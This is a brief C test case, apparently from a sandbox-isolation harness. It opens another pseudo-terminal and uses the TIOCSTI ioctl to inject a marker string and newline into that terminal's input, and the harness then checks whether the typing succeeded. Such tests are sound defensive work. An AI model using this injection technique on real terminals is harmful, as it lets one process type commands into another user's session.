#include "attack.h"
// Steals another terminal and types into it.
ATTACK(.judge = "tty:typed", .needs = "tty") {
  if (fork()) return hold();
  setsid();
  int fd = open(arg("otherpts"), O_RDWR);
  if (fd < 0) note("open");
  for (const char *c = path(arg("marker"), "\n"); *c; c++) if (ioctl(fd, TIOCSTI, c)) { note("TIOCSTI"); break; }
  hold();
}
